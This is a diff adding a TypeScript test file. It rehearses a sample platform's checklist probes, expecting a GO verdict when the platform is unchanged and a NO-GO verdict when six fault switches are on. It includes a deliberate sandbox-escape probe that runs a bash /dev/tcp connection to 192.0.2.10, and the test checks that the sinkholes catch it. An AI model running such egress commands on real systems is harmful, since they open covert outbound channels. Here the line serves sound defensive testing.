@@ -1,0 +1,92 @@
+import t from 'tap';
+import { execFile } from 'node:child_process';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { promisify } from 'node:util';
+import { parseDocument } from 'yaml';
+import { makeSample, NODE_TS, REHEARSE } from '../helpers/sample-fixture.js';
+import { APP_SWITCHES } from '../../sample-platform/apps/switches.js';
+import type { Report } from '../../src/report/model.js';
+
+/**
+ * The example plan's checklist probes, rehearsed for real: the unchanged candidate passes every
+ * probe (GO), and one rehearsal with all six portal, import and job switches on gives NO-GO with
+ * each switch caught by its own probe and nothing else failing. The second also carries a probe
+ * that reaches a switch sinkhole, which must fail as an attempt to leave. Two rehearsals, at once.
+ */
+t.setTimeout(110_000);
+const sample = makeSample(120, 4);
+t.teardown(() => sample.cleanup());
+const run = promisify(execFile);
+
+/** Each switch and the one probe that must catch it (mutants/sample-platform.yaml says the same). */
+const CAUGHT_BY: Readonly<Record<string, string>> = {
+  'portal-balance-in-cents': 'checklist.portal-summary.1-http',
+  'signup-without-package': 'checklist.sign-up.2-sql',
+  'contact-update-not-saved': 'checklist.contact-update.2-http',
+  'ticket-edit-fails': 'checklist.tickets.2-http',
+  'import-skips-last-row': 'checklist.usage-import.1-command',
+  'provisioning-job-idle': 'checklist.provisioning-outside-billing.1-job',
+};
+
+const ESCAPE = { id: 'escape', title: 'A probe that tries to leave', probes: [{ title: 'talk to a switch', command: { run: "bash -c 'echo hello > /dev/tcp/192.0.2.10/2208'" } }] };
+
+async function rehearse(name: string, faults: readonly string[], extraItem?: object): Promise<{ code: number; report: Report }> {
+  const plan = sample.plan(name, { faults: [...faults], probes: true });
+  if (extraItem !== undefined) {
+    const doc = parseDocument(readFileSync(plan, 'utf8'));
+    doc.addIn(['checklist'], doc.createNode(extraItem));
+    writeFileSync(plan, doc.toString());
+  }
+  const [node, ...loader] = NODE_TS;
+  let code = 0;
+  let stdout: string;
+  try {
+    stdout = (await run(node, [...loader, REHEARSE, '--json', 'all', plan], { encoding: 'utf8', timeout: 100_000 })).stdout;
+  } catch (error) {
+    const e = error as { code?: number; stdout?: string; stderr?: string };
+    code = typeof e.code === 'number' ? e.code : -1;
+    stdout = e.stdout ?? '';
+    if (stdout === '') throw new Error(`rehearsal ${name} gave no JSON: ${e.stderr ?? String(error)}`, { cause: error });
+  }
+  const { report } = JSON.parse(stdout) as { report: string };
+  return { code, report: JSON.parse(readFileSync(join(dirname(report), 'report.json'), 'utf8')) as Report };
+}
+
+const [clean, faulty] = await Promise.all([rehearse('clean', []), rehearse('switches', APP_SWITCHES, ESCAPE)]);
+
+t.test('the unchanged candidate passes every probe and ends GO', async (t) => {
+  t.equal(clean.code, 0);
+  t.equal(clean.report.verdict, 'GO', clean.report.verdictReason);
+  const probed = clean.report.checklist.filter((i) => (i.probes ?? []).length > 0);
+  t.ok(probed.length >= 6, `${probed.length} items proved by probes`);
+  t.ok(probed.every((i) => i.status === 'passed' && i.probes?.every((p) => p.status === 'passed')));
+  t.equal(clean.report.checks.find((c) => c.id === 'probes-no-egress')?.status, 'passed');
+  const summary = clean.report.checks.find((c) => c.id === 'checklist.portal-summary.1-http');
+  t.ok(summary?.evidence?.some((e) => e.request === 'GET /api/accounts/ACC-000008/summary'), 'the request is in the evidence');
+  t.notMatch(JSON.stringify(summary?.evidence), /"name":"[^«]/, "the account's name is withheld");
+});
+
+t.test('every portal, import and job switch is caught by its own probe, and by nothing else', async (t) => {
+  t.equal(faulty.code, 1);
+  t.equal(faulty.report.verdict, 'NO-GO');
+  t.ok(faulty.report.stages.every((s) => s.status === 'passed'), 'the pipeline itself ran through');
+  for (const [name, id] of Object.entries(CAUGHT_BY)) t.equal(faulty.report.checks.find((c) => c.id === id)?.status, 'failed', `${name} caught by ${id}`);
+  const failed = faulty.report.checks.filter((c) => c.status === 'failed').map((c) => c.id).sort();
+  const expected = [...Object.values(CAUGHT_BY), 'checklist.provisioning-outside-billing.2-sql', 'checklist.escape.1-command'].sort();
+  t.same(failed, expected, 'only the probes fail: the bill run never sees these switches');
+  const check = (id: string) => faulty.report.checks.find((c) => c.id === id)?.summary ?? '';
+  t.match(check('checklist.portal-summary.1-http'), /expected \$\.balance = "\d+\.\d\d", got \d+/);
+  t.match(check('checklist.tickets.2-http'), /expected status 200, got status 500/);
+  t.match(check('checklist.usage-import.1-command'), /expected \$\.imported = 3, got 2/);
+  t.match(check('checklist.provisioning-outside-billing.1-job'), /expected provisioning ≥ 1, got 0/);
+  const items = new Map(faulty.report.checklist.map((i) => [i.id, i]));
+  t.equal(items.get('sign-up')?.status, 'failed');
+  t.same(items.get('sign-up')?.probes?.map((p) => p.status), ['passed', 'failed'], 'sign-up answered; its package is what is missing');
+});
+
+t.test('a probe that tries to leave the sandbox lands in the ledger and fails', async (t) => {
+  const summary = faulty.report.checks.find((c) => c.id === 'checklist.escape.1-command')?.summary;
+  t.match(summary, /tried to leave the sandbox: provisioning to 192\.0\.2\.10:2208 \(caught by the sinkholes\)/);
+  t.equal(faulty.report.checks.find((c) => c.id === 'probes-no-egress')?.status, 'passed', 'the kernel counted nothing leaving');
+});
